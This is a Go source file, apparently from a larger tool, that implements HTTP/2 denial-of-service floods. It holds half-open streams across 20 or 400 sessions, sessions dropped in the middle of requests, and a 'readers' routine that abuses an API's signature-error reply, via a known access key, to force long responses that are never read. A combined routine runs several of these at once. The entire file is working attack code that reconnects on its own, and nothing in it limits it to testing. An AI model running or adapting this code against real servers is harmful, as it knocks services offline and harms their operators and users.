package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// session is a minimal HTTP/2 client.
type session struct {
	net.Conn
	framer *http2.Framer
	head   bytes.Buffer
	pack   *hpack.Encoder
	next   uint32
	id     int  // its number among the sessions of a flood
	half   bool // its heads do not end
}

func (t *target) session(window uint32) (*session, error) {
	c, err := t.dialTLS("h2")
	if err != nil {
		return nil, err
	}
	s := &session{Conn: c, framer: http2.NewFramer(c, c), next: 1}
	s.pack = hpack.NewEncoder(&s.head)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	return s, s.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// begin sends the head of a request, in frames of the largest default size, and returns its
// stream.
func (s *session) begin(method, authority, path, long string, end bool) (id uint32, err error) {
	s.head.Reset()
	fields := [][2]string{
		{":method", method}, {":scheme", "https"}, {":authority", authority}, {":path", path},
		{"content-type", "application/x-www-form-urlencoded"},
	}
	if long != "" {
		fields = append(fields, [2]string{"x-long", long})
	}
	for _, f := range fields {
		_ = s.pack.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: f[0] == "x-long"})
	}
	id, s.next = s.next, s.next+2
	_ = s.SetWriteDeadline(soon())
	first := s.head.Next(16 << 10)
	err = s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: s.head.Len() == 0, EndStream: end})
	for err == nil && s.head.Len() > 0 {
		next := s.head.Next(16 << 10)
		err = s.framer.WriteContinuation(id, s.head.Len() == 0 && !s.half, next)
	}
	return id, err
}

// post begins a request and sends part of its body; end says whether that is all.
// long is the value of a header.
func (s *session) post(path, body string, end bool, long string) error {
	id, err := s.begin("POST", "a", path, long, false)
	if err != nil {
		return err
	}
	for len(body) > 0 {
		n := min(len(body), 16<<10)
		if err := s.framer.WriteData(id, end && n == len(body), []byte(body[:n])); err != nil {
			return err
		}
		body = body[n:]
	}
	return nil
}

// drain reads what the server sends, so that the server is never blocked.
func (s *session) drain(done chan<- struct{}) {
	defer close(done)
	for {
		f, err := s.framer.ReadFrame()
		if err != nil {
			return
		}
		if settings, ok := f.(*http2.SettingsFrame); ok && !settings.IsAck() {
			continue // they need not be acknowledged at once
		}
	}
}

// streams keeps 20 sessions with 250 half-sent bodies each.
func streams(ctx context.Context, t *target) error { return halfStreams(ctx, t, 20) }

// manyStreams keeps 400 such sessions.
func manyStreams(ctx context.Context, t *target) error { return halfStreams(ctx, t, 400) }

// endings opens sessions, and closes each in the middle of 30 requests.
func endings(ctx context.Context, t *target) error {
	var all sync.WaitGroup
	for range 32 {
		all.Go(func() {
			for ctx.Err() == nil {
				s, err := t.session(1 << 16)
				if err != nil {
					pause(ctx, pauseBetween)
					continue
				}
				for i := range 30 {
					_ = s.post(paths[i%len(paths)], "a=b", false, "")
				}
				_ = s.Close()
			}
		})
	}
	all.Wait()
	return nil
}

func halfStreams(ctx context.Context, t *target, n int) error {
	return sessions(ctx, t, n, 1<<16, func(s *session) error {
		for i := range 250 {
			if err := s.post(paths[i%len(paths)], "a="+strings.Repeat("b", 2000), false, ""); err != nil {
				return err
			}
		}
		return nil
	})
}

// readers asks for long answers and reads none of them. A wrong signature for a known key is
// answered with the string to sign, so this needs no secret.
func readers(ctx context.Context, t *target) error {
	query := "/?Action=GetMessageContact&Version=2022-04-19&AccessKeyId=" + sample.key +
		"&SignatureMethod=HMAC-SHA1&SignatureVersion=1.0&Signature=eA%3D%3D&Timestamp=" +
		time.Now().UTC().Format("2006-01-02T15%3A04%3A05Z")
	body := "Pad=" + strings.Repeat("%25", 2000)
	var both sync.WaitGroup
	both.Go(func() {
		_ = sessions(ctx, t, 50, 0, func(s *session) error {
			for range 120 {
				if err := s.post(query+"&SignatureNonce="+rand.Text(), body, true, ""); err != nil {
					return err
				}
			}
			return nil
		})
	})
	both.Go(func() {
		_ = holdMany(ctx, 50, func(int) string {
			return strings.Repeat("POST "+query+"&SignatureNonce="+rand.Text()+" HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: 6004\r\n\r\n"+body, 100)
		}, t)
	})
	both.Wait()
	return nil
}

// sessions keeps n sessions open, and reopens those that end.
func sessions(ctx context.Context, t *target, n int, window uint32, fill func(*session) error) error {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() {
			for ctx.Err() == nil {
				s, err := t.session(window)
				if err != nil {
					pause(ctx, pauseBetween)
					continue
				}
				s.id = i
				done := make(chan struct{})
				go s.drain(done)
				_ = fill(s)
				select {
				case <-done:
				case <-ctx.Done():
				}
				_ = s.Close()
				pause(ctx, pauseBetween)
			}
		})
	}
	all.Wait()
	return nil
}

func together(ctx context.Context, t *target) error {
	var all sync.WaitGroup
	for _, f := range []func(context.Context, *target) error{slowBodies, streams, readers} {
		all.Go(func() { _ = f(ctx, t) })
	}
	all.Wait()
	return nil
}
